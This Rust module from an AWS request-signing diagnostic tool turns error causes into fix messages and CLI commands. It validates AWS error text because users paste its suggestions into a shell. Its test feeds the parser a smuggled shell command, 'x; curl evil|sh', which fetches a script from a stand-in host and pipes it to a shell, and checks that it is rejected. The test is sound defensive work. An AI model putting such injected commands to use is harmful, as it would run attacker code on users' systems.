//! How to fix what AWS refuses, in the options of countersign and the commands of the AWS CLI.

use crate::upstream::{Endpoint, UpstreamKind};

pub(super) const FORBIDDEN: &str = "The API's resource policy, a usage plan that requires x-api-key, AWS WAF, a \
    missing permission (HTTP APIs), or a wrong Host header are the usual reasons.";
pub(super) const WAF: &str = "A firewall refused the request before AWS checked its signature: AWS WAF, CloudFront, \
    or a proxy of the network. Allow the request in the rules of the API's web ACL; their sampled requests show \
    which rule blocked it.";
pub(super) const WEBSOCKET: &str = "The URL is that of a WebSocket API, which a check cannot open. Connect a client \
    to countersign to check it.";
const CLOCK: &str = "Synchronize this machine's clock: timedatectl set-ntp true";
const TOKEN: &str = "The access key, its secret and its session token must come from one source. Set all three \
    again, or remove the session token if the key is not temporary.";

/// Returns the fix for a cause of a diagnosis; `None` if the general one applies.
pub(super) fn of_cause(
    cause: &str,
    endpoint: &Endpoint,
    message: &str,
    fields: &[String],
) -> Option<String> {
    let scope = &endpoint.scope;
    Some(match cause {
        "clock-fast" | "clock-slow" => CLOCK.to_owned(),
        "host-wrong" => host(endpoint),
        "iam-not-enabled" => enable_iam(),
        "no-such-route" => format!(
            "It was GET {}. Give a URL whose path has a GET method, with the stage first: \
             countersign check https://{}/STAGE/PATH",
            path_of(endpoint),
            endpoint.wire_host
        ),
        "not-authorized" => grant(endpoint, fields),
        "path-wrong" => path(endpoint),
        "token-expired" => {
            "Renew the credentials, such as with: aws sso login".to_owned()
        }
        "token-extra" | "token-missing" | "token-wrong" | "unknown-key" => TOKEN.to_owned(),
        "waf" => WAF.to_owned(),
        "wrong-region" => format!(
            "It is signed for {:?}. Use the region of the API, also behind a custom domain: --region REGION",
            scope.region
        ),
        "wrong-secret" => "The secret access key is not that of the access key. Copy both again, from one source. If \
                           other programs accept them, a proxy between countersign and AWS changes the request."
            .to_owned(),
        "wrong-service" => {
            let expected = expected_service(message).unwrap_or("NAME");
            format!("It is signed for {:?}. Use the API's service: --service {expected}", scope.service)
        }
        _ => return None,
    })
}

/// Returns the service that AWS expects. The text is not trusted, and users paste the fix into a shell.
fn expected_service(message: &str) -> Option<&str> {
    let is_part = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
    let quoted = message.split('\'').nth(1)?;
    let is_name = (1..=40).contains(&quoted.len()) && quoted.bytes().all(is_part);
    is_name.then_some(quoted)
}

/// Returns the fix for a path where nothing is.
pub(super) fn path(endpoint: &Endpoint) -> String {
    let rule = match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => "/graphql or /event",
        UpstreamKind::Http => "on API Gateway's own host names it begins with the stage",
    };
    format!(
        "It was https://{}{}. Check the ID in the host, the path ({rule}), and --host.",
        endpoint.wire_host,
        path_of(endpoint)
    )
}

/// Returns the fix for a Host that no API has.
pub(super) fn host(endpoint: &Endpoint) -> String {
    let service = match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => "appsync-api",
        UpstreamKind::Http => "execute-api",
    };
    let mut fix = format!(
        "The Host that was sent and signed is {}. Check the ID in it, or send that of the API: \
         --host ID.{service}.{}.amazonaws.com",
        endpoint.wire_host, endpoint.scope.region
    );
    if is_private(endpoint) {
        fix.push_str("\nThe API's resource policy must allow the VPC endpoint.");
    }
    fix
}

/// Returns whether the URL names another server than `host`, as for a VPC endpoint.
pub(super) fn is_private(endpoint: &Endpoint) -> bool {
    let host = endpoint.wire_host.split(':').next().unwrap_or_default();
    endpoint.tls_name.contains(".vpce.") || endpoint.tls_name != host
}

fn path_of(endpoint: &Endpoint) -> &str {
    if endpoint.path.is_empty() {
        "/"
    } else {
        &endpoint.path
    }
}

fn enable_iam() -> String {
    "Enable IAM as an authorization mode of the API, beside the others:\n\
     aws appsync update-graphql-api --api-id ID --name NAME --authentication-type MODE \
     --additional-authentication-providers authenticationType=AWS_IAM\n\
     Fields and types then need @aws_iam in the schema."
        .to_owned()
}

fn grant(endpoint: &Endpoint, fields: &[String]) -> String {
    let (service, region) = (&endpoint.scope.service, &endpoint.scope.region);
    match endpoint.kind {
        UpstreamKind::Graphql => {
            let field = match fields {
                [] => "FIELD".to_owned(),
                fields => fields.join(", …/fields/"),
            };
            format!(
                "Allow appsync:GraphQL on arn:aws:appsync:{region}:ACCOUNT:apis/ID/types/Query/fields/{field} in a \
                 policy of the identity. The statement for your documents: countersign policy FILE\n\
                 With several authorization modes, the API must have AWS_IAM, and the field @aws_iam in the schema."
            )
        }
        UpstreamKind::Events => format!(
            "Allow appsync:EventConnect on arn:aws:appsync:{region}:ACCOUNT:apis/ID in a policy of the identity."
        ),
        UpstreamKind::Http if service == "execute-api" => format!(
            "Allow execute-api:Invoke on arn:aws:execute-api:{region}:ACCOUNT:ID/STAGE/METHOD/PATH in a policy of \
             the identity, and in the resource policy if the API is in another account."
        ),
        UpstreamKind::Http => {
            format!("Allow the action of {service} on this resource in a policy of the identity.")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_name_of_a_service_is_taken_from_a_text() {
        let text =
            |name: &str| format!("Credential should be scoped to correct service: '{name}'.");
        assert_eq!(expected_service(&text("execute-api")), Some("execute-api"));
        for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
            assert_eq!(expected_service(&text(other)), None, "{other:?}");
        }
        assert_eq!(expected_service("none"), None);
    }
}
